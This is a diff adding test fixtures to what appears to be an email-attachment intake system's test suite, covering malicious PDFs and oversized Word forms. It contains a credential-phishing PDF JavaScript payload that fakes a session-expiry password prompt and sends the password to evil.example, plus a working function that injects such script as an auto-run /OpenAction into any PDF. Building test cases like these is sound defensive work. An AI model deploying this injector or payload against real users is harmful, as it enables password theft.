@@ -157,3 +157,93 @@ def good_form_mail(first: str = "Jonas", mobile: str | None = "917 23 456", *, v
     return message(from_header=f"Kari Berg <{CASE_SENDER}>", subject=subject,
                    auth=auth_results("fjellbu.no") if verified else None, message_id=message_id,
                    attachments=((f"Skjema - {first}.docx", form_docx(first, mobile=mobile), DOCX_TYPE),))
+
+
+# --- what an attached file may do in the operator's browser ---------------------------------------------
+
+# What the review's PDF did when the case page framed it: a prompt that looked like the session's own.
+PHISHING_SCRIPT = ('app.alert("Okten din er utlopt."); '
+                   'var pw = app.response("Okten din er utlopt. Skriv inn passordet ditt:"); '
+                   'this.submitForm("https://evil.example/samle?pw=" + pw);')
+
+
+def with_open_action(pdf: bytes, script: str = PHISHING_SCRIPT) -> bytes:
+    """`pdf` with JavaScript that a viewer runs on opening it (/OpenAction, and in the document's
+    JavaScript name tree), added as an incremental update, the way an editor appends a change.
+    Needs a PDF with a classic xref table and its catalog as a plain object (as the fixtures are)."""
+    import re
+
+    tail = pdf[pdf.rindex(b"trailer"):]
+    root = int(re.search(rb"/Root (\d+) 0 R", tail).group(1))  # type: ignore[union-attr]
+    size = int(re.search(rb"/Size (\d+)", tail).group(1))  # type: ignore[union-attr]
+    info = re.search(rb"/Info (\d+) 0 R", tail)
+    prev = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
+    catalog = re.search(rb"\n%d 0 obj\s*<<(.*?)>>\s*endobj" % root, pdf, re.S)
+    assert catalog is not None and b"/OpenAction" not in catalog.group(1)
+    action, names = size, size + 1
+    js = script.encode("ascii").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
+    objects = {
+        root: b"<<" + catalog.group(1) + b"/OpenAction %d 0 R /Names << /JavaScript %d 0 R >> >>" % (action, names),
+        action: b"<< /Type /Action /S /JavaScript /JS (" + js + b") >>",
+        names: b"<< /Names [(imdi) %d 0 R] >>" % action,
+    }
+    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
+    offsets = {}
+    for number, body in objects.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n%d 1\n%010d 00000 n \n%d 2\n" % (root, offsets[root], action)
+    out += b"%010d 00000 n \n%010d 00000 n \n" % (offsets[action], offsets[names])
+    trailer = b"<< /Size %d /Root %d 0 R /Prev %d" % (size + 2, root, prev)
+    if info:
+        trailer += b" /Info %s 0 R" % info.group(1)
+    out += b"trailer\n" + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
+    return bytes(out)
+
+
+PDF_FORM_SENDER = "mariam.abdi@trondelagmottak.no"
+
+
+def flattened_form_pdf() -> bytes:
+    """A filled PDF form (the fixture pdf-fillable-flattened: Even Størdal for Trøndelag Mottaksdrift AS)."""
+    from email import message_from_bytes, policy
+
+    from tests.conftest import FIXTURES
+
+    mail = message_from_bytes((FIXTURES / "pdf-fillable-flattened.eml").read_bytes(), policy=policy.default)
+    part = next(p for p in mail.iter_attachments() if p.get_content_type() == "application/pdf")
+    return bytes(part.get_content())
+
+
+def scripted_pdf_mail() -> bytes:
+    """A good PDF form from a verified sender that also carries the phishing script."""
+    return message(from_header=f"Mariam Abdi <{PDF_FORM_SENDER}>", subject="Skjema om mottaksadministrativ bruker",
+                   auth=auth_results("trondelagmottak.no"), message_id="<script@trondelagmottak.no>",
+                   attachments=(("skjema.pdf", with_open_action(flattened_form_pdf()), "application/pdf"),))
+
+
+def big_word_form(megabytes: int = 16) -> bytes:
+    """The good Word form with its document.xml padded to `megabytes` by paragraphs after the form (a
+    long appendix of text): under the reader's limits, and costly to parse."""
+    import re
+
+    src = zipfile.ZipFile(io.BytesIO(form_docx()))
+    xml = src.read("word/document.xml")
+    # Words drawn at random, so that the text does not compress beyond the zip ratio limit.
+    rnd = random.Random(16)
+    words = ["mottak", "rutiner", "beboere", "vakt", "rapport", "turnus", "avvik", "tiltak", "samtale", "kontor",
+             "opplæring", "bolig", "tolk", "skole", "helse", "aktivitet", "møte", "plan", "budsjett"]
+    target = megabytes * 1024 * 1024 - len(xml)
+    paras: list[bytes] = []
+    while target > 0:
+        text = " ".join(rnd.choice(words) for _ in range(120)).encode()
+        paras.append(b'<w:p><w:r><w:t xml:space="preserve">' + text + b"</w:t></w:r></w:p>")
+        target -= len(paras[-1])
+    body_end = [m.start() for m in re.finditer(rb"<w:sectPr", xml)][-1]
+    padded = xml[:body_end] + b"".join(paras) + xml[body_end:]
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            dst.writestr(item, padded if item.filename == "word/document.xml" else src.read(item.filename))
+    return out.getvalue()
